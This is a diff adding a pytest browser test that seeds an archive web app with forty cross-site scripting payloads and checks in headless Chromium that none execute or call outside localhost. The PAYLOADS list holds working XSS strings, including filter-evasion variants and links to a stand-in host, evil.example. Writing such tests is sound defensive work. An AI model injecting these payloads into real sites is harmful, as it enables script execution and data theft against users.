@@ -1,0 +1,102 @@
+"""An XSS corpus in every place a person can type, rendered in headless Chromium.
+
+Forty payloads go into titles, bodies, names, posts, countries (so facet values), tags,
+summaries, source links and query strings; every page kind is loaded. No script may run
+(no dialog, no marker set), no request may leave 127.0.0.1, and no `javascript:` link may
+reach the page."""
+
+from __future__ import annotations
+
+import shutil
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+from urllib.parse import quote, urlsplit
+
+import pytest
+
+from .helpers import SAMPLE, write_record
+from .test_browser import CHROMIUM, free_port, sync_playwright  # noqa: F401 (skips without Chromium)
+
+pytestmark = pytest.mark.browser
+
+PAYLOADS = [
+    "<script>window.__xss=1</script>", "<img src=x onerror=window.__xss=1>",
+    "<svg onload=window.__xss=1>", "<svg><script>window.__xss=1</script></svg>",
+    "<iframe src=javascript:window.__xss=1>", "<body onload=window.__xss=1>",
+    "\"><script>window.__xss=1</script>", "'><img src=x onerror=window.__xss=1>",
+    "\" onmouseover=\"window.__xss=1", "' autofocus onfocus='window.__xss=1",
+    "javascript:window.__xss=1", "[click](javascript:window.__xss=1)",
+    "[click](JaVaScRiPt:window.__xss=1)", "[click](data:text/html,<script>window.__xss=1</script>)",
+    "![img](javascript:window.__xss=1)", "![x](https://evil.example/pixel.png)",
+    "<a href=\"javascript:window.__xss=1\">x</a>", "<math><mtext><script>window.__xss=1</script>",
+    "<details open ontoggle=window.__xss=1>", "<input autofocus onfocus=window.__xss=1>",
+    "<video><source onerror=window.__xss=1>", "<object data=javascript:window.__xss=1>",
+    "<embed src=javascript:window.__xss=1>", "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css';</style>", "<meta http-equiv=refresh content=0;url=https://evil.example>",
+    "</title><script>window.__xss=1</script>", "</textarea><script>window.__xss=1</script>",
+    "<!--<script>window.__xss=1</script>-->", "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
+    "&lt;script&gt;window.__xss=1&lt;/script&gt;", "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
+    "{{7*7}}{% raw %}", "${window.__xss=1}", "<base href=https://evil.example/>",
+    "<form action=https://evil.example><button>go</button></form>",
+    "[x](https://evil.example/ \"title\" onclick=window.__xss=1)", "<a href=//evil.example>x</a>",
+    "\u202e<script>window.__xss=1</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+]
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """An archive whose every field holds a payload, served by `archive serve --private`."""
+    base = tmp_path_factory.mktemp("hostile")
+    folder = base / "testimonies"
+    folder.mkdir()
+    shutil.copy(SAMPLE / "vocabulary.yaml", folder / "vocabulary.yaml")
+    for number, payload in enumerate(PAYLOADS):
+        write_record(folder, f"payload-{number:02d}", body=f"{payload}\n\nText {payload} more.\n",
+                     title=f"T {payload}"[:300], post=f"P {payload}", country=f"C {payload}",
+                     name=f"N {payload}", pseudonym=True, tags=[f"t {payload}"],
+                     summary=f"S {payload}", motives=["famine"],
+                     sources=[{"title": f"Src {payload}", "url": "https://example.org/x"}])
+    port = free_port()
+    process = subprocess.Popen([sys.executable, "-m", "archive", "--testimonies", str(folder),
+                                "--index", str(base / "index"), "serve", "--private",
+                                "--port", str(port)], stdout=subprocess.DEVNULL,
+                               stderr=subprocess.DEVNULL)
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline:
+        try:
+            socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
+            break
+        except OSError:
+            time.sleep(0.1)
+    yield f"http://127.0.0.1:{port}"
+    process.terminate()
+    process.wait(timeout=10)
+
+
+def test_no_payload_runs_or_calls_out_on_any_page(hostile):
+    pages = ["/", "/search", "/search?labels=ko", "/new", "/nowhere", "/search?q=year:abc"]
+    for number, payload in enumerate(PAYLOADS):
+        pages += [f"/t/payload-{number:02d}", f"/t/payload-{number:02d}/edit",
+                  f"/search?q={quote(payload)}", f"/search?country={quote('C ' + payload)}",
+                  f"/search?q={quote(payload)}&sector=civilian&motive=famine"]
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[
+            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"])
+        page = browser.new_page()
+        dialogs, requests, errors = [], [], []
+        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+        page.on("request", lambda r: requests.append(r.url))
+        page.on("pageerror", lambda e: errors.append(str(e)))
+        for path in pages:
+            page.goto(hostile + path)
+            assert page.evaluate("window.__xss === undefined"), path
+            assert page.locator("a[href^='javascript:' i], [onerror], [onload], [onfocus], "
+                                "[onmouseover], [ontoggle], iframe, object, embed, base, "
+                                "meta[http-equiv]").count() == 0, path
+        browser.close()
+    hosts = {urlsplit(u).hostname for u in requests if not u.startswith(("data:", "about:"))}
+    assert hosts == {"127.0.0.1"} and dialogs == [] and errors == []
+    assert len(pages) >= 40 * 5
